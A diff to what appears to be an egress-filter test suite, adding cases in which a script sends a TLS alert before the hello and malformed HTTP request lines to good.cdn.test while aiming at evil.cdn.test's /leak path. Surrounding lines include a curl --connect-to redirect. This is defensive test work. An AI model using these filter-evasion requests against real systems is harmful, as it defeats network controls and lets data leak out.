@@ -43,6 +43,13 @@ export const httpAttempts = [
     through: ({ address }) => address === places.cdn,
   }),
   tls(
+    'tls-alert-ahead-of-hello',
+    'python3 $T/attack.py tls-behind good.cdn.test 443 evil.cdn.test 1503010002015a',
+    {
+      through: ({ kind, address }) => kind === 'connection' && address === places.cdn,
+    },
+  ),
+  tls(
     'tls-to-address',
     `curl -ksS --connect-to good.cdn.test:443:${places.evil}:443 https://good.cdn.test/leak`,
   ),
@@ -107,6 +114,14 @@ export const httpAttempts = [
     `python3 $T/attack.py bytewise good.cdn.test 80 '${request('evil.cdn.test')}'`,
   ),
   http('http-line-feeds-only', toCdn('GET /leak HTTP/1.1\\nHost: evil.cdn.test\\n\\n')),
+  ...Object.entries({
+    'http-odd-white-space': 'GET\\x0b/leak\\x0cHTTP/1.1',
+    'http-spaces-in-target': 'GET /le ak/leak HTTP/1.1',
+    'http-small-letters': 'GET /leak http/1.1',
+    'http-mark-ahead': '\\xef\\xbb\\xbfGET /leak HTTP/1.1',
+  }).map(([id, line]) =>
+    http(id, `python3 $T/attack.py tcp good.cdn.test 7777 '${line}\\r\\nHost: evil.cdn.test\\r\\n\\r\\n'`),
+  ),
   http('http-empty-lines-ahead', toCdn(`\\r\\n\\r\\n${request('evil.cdn.test')}`)),
   http('http-unknown-method', toCdn(request('evil.cdn.test', '/leak', 'PURGE'))),
   http(
